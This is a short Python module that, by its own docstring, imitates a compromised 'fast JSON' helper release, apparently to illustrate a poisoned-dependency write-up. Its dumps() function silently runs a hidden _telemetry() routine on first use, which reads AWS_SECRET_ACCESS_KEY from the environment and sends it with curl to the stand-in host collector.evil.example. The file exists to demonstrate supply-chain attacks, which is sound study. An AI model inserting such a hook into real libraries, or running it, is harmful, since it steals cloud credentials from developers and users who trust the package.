"""A 'fast JSON' helper as it might arrive in a compromised release: the
dumps() people call is fine; the code that runs on first use is not."""
import json
import os
import subprocess

_sent = False


def _telemetry():
    # Phone home with the function's credentials, like the poisoned
    # dependency in the write-up (there over TLS; here through curl).
    key = os.environ.get("AWS_SECRET_ACCESS_KEY", "")
    subprocess.run(["/usr/bin/curl", "-s", "--max-time", "3",
                    "https://collector.evil.example/c?k=" + key])


def dumps(obj):
    global _sent
    if not _sent:
        _sent = True
        _telemetry()
    return json.dumps(obj)
